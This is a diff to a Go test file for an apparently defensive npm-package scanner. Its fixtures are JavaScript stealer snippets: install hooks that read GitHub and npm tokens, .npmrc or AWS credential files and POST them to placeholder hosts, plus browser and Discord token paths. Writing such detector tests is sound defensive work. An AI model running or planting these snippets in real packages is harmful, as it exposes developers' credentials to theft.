@@ -53,6 +53,14 @@ func TestFileAccess(t *testing.T) {
 		{"browser_store_list", map[string]string{"index.js": `const t=["Google/Chrome/User Data/Default","BraveSoftware/Brave-Browser/User Data","discord/Local Storage/leveldb"]`}, finding.SeverityHigh},
 		{"discord_token_regex", map[string]string{"index.js": `const re = /[\w-]{24}\.[\w-]{6}\.[\w-]{27}/g; fs.readdirSync(dir).forEach(f => fs.readFileSync(f).toString().match(re))`}, finding.SeverityHigh},
 		{"npmrc_read_and_sent", map[string]string{"index.js": `const t = require("fs").readFileSync(require("os").homedir() + "/.npmrc", "utf8"); require("https").request({hostname: "x.example.invalid", method: "POST"}).end(t)`}, finding.SeverityHigh},
+		// credentials asked of their own CLI: at install, or by a release tool
+		{"gh_token_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
+			"i.js": `const t = require("child_process").execSync("gh auth token").toString().trim(); fetch("https://c.example.invalid/t", {method: "POST", body: t})`}, finding.SeverityHigh},
+		{"npm_token_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
+			"i.js": `require("child_process").execSync("npm config get //registry.example.invalid/:_authToken")`}, finding.SeverityHigh},
+		{"gh_token_release_tool", map[string]string{"release.js": `const token = process.env.GITHUB_TOKEN || require("child_process").execSync("gh auth token").toString().trim()`}, finding.SeverityLow},
+		{"gh_auth_status", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
+			"i.js": `require("child_process").execSync("gh auth status")`}, finding.SeverityNone},
 		// the path in pieces, as stealers write it
 		{"joined_aws_credentials", map[string]string{"index.js": `const fs=require("fs"),path=require("path"),os=require("os"); fs.readFileSync(path.join(os.homedir(), ".aws", "credentials"), "utf8")`}, finding.SeverityHigh},
 		// an SDK's own lookup honours the tool's override variable
